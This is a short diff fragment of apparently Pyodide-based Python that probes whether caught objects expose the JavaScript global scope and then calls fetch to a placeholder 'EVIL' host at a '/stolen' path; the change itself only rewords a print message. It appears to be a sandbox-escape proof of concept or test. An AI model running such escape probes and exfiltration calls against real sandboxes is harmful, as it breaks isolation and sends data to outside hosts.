@@ -15,7 +15,7 @@ to_js([1]).constructor.__dict__ if False else None
 await asyncio.sleep(0.3)
 for this in caught:
     if hasattr(this, "WorkerGlobalScope") or hasattr(this, "setTimeout"):
-        print("open: this is", this)
+        print("reached: this is", this)
         this.fetch(EVIL + "/stolen")
 print("caught", len(caught))
 await asyncio.sleep(0.3)
